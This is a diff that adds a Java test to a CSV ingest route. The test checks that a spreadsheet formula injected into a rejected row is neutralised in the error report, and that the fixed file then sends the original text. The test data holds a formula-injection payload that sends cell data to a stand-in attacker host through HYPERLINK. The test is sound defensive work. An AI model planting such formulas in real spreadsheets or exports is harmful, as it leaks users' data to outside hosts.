@@ -90,6 +90,29 @@ class CsvDropIngestRouteTest extends RouteTestSupport {
     }
 
     @Test
+    void aFormulaInARejectedRowIsNeutralisedAndTheFixedFileDroppedAgainSendsTheOriginal() throws Exception {
+        windows().recordInbound("+14155550101", Instant.now().minusSeconds(60), "wamid.in.1");
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+        drop("promo.csv", "id,to,text,category\n"
+                + "f-1,+14155550101,\"" + formula.replace("\"", "\"\"") + "\",nonsense\n");
+
+        Path rejected = dropDir.resolve(".done/promo.csv.rejected.csv");
+        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".done/promo.csv")));
+        String report = Files.readString(rejected);
+        assertThat(report).contains(",\"'+14155550101\",\"'=HYPERLINK(").doesNotContain(",=HYPERLINK(")
+                .contains("category 'nonsense' is unknown");
+        assertThat(statusOf("f-1")).isNull();
+
+        drop("promo-fixed.csv", report.replace(",nonsense", ",utility"));
+        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".done/promo-fixed.csv")));
+        assertThat(statusOf("f-1")).isEqualTo(Status.SENT);
+        assertThat(stored("f-1").notification().to()).isEqualTo("+14155550101");
+        assertThat(sentTo(SESSION_PATH)).singleElement()
+                .satisfies(body -> assertThat(body.path("text").path("body").asText()).isEqualTo(formula));
+        assertThat(dropDir.resolve(".done/promo-fixed.csv.rejected.csv")).doesNotExist();
+    }
+
+    @Test
     void droppingTheSameRowsAgainSendsNothing() throws Exception {
         String content = "to;text;template;language\n+14155550101;;order_shipped;en_US\n+14155550102;;order_shipped;en_US\n";
         drop("first.csv", content);
